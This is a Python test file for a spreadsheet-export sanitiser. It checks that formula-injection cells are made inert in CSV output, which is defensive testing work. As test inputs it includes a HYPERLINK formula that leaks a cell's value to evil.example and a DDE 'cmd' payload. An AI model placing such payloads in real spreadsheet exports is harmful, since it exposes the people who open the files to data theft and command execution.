"""Inert formulas in spreadsheet exports (:mod:`dualcontrol.exports`), OWASP CSV injection."""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest

from dualcontrol.exports import neutralise_cell, neutralise_formulas

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ordos", "Ordos"),
        ("a=b", "a=b"),
        ("", ""),
        ("-3.5", "-3.5"),
        ("+12", "+12"),
        ("-1e-3", "-1e-3"),
    ],
)
def test_text_cells(text: str, expected: str) -> None:
    assert neutralise_cell(text) == expected


@pytest.mark.parametrize("value", [-1, -2.5, 0, np.float64(-7.0), None, np.nan, True])
def test_non_text_values_are_untouched(value) -> None:
    assert neutralise_cell(value) is value


def test_frame_numbers_stay_numbers_and_text_is_made_inert() -> None:
    frame = pd.DataFrame(
        {
            "name": [FORMULA, "Baotou", None],
            "co2_t": [-1.5, 2.0, 3.0],
            "year": [2024, 2024, 2025],
            "kind": pd.Categorical(["@x", "b", "b"]),
            "=header": ["x", "y", "z"],
        }
    )
    safe = neutralise_formulas(frame)
    assert safe["name"].tolist()[:2] == ["'" + FORMULA, "Baotou"]
    assert pd.isna(safe["name"].iloc[2])
    assert safe["co2_t"].dtype == float and safe["co2_t"].iloc[0] == -1.5
    assert safe["year"].tolist() == [2024, 2024, 2025]
    assert safe["kind"].tolist() == ["'@x", "b", "b"]
    assert "'=header" in safe.columns
    assert frame["name"].iloc[0] == FORMULA  # the input is not changed


def test_cli_csv_output_is_inert(capsys) -> None:
    from dualcontrol.cli.output import emit

    emit(pd.DataFrame({"enterprise": [FORMULA], "energy_tce": [-4.0]}), as_csv=True)
    frame = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype=str)
    assert frame["enterprise"].iloc[0] == "'" + FORMULA
    assert frame["energy_tce"].iloc[0] == "-4.0"
